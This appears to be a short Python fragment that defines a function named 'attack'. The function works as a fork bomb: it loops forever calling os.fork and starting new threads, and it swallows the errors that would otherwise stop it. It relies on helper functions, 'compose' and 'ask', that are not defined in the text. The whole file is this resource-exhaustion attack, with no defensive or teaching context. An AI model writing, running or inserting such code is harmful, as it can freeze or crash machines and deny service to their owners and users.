"""Starts processes and threads without end, all of which ask."""

import os
import threading


def attack(chain, x):
    while True:
        for start in (os.fork, lambda: threading.Thread(target=lambda: compose(chain, x)).start()):
            try:
                start()
            except (OSError, RuntimeError):
                pass
        ask(lambda: compose(chain, x))
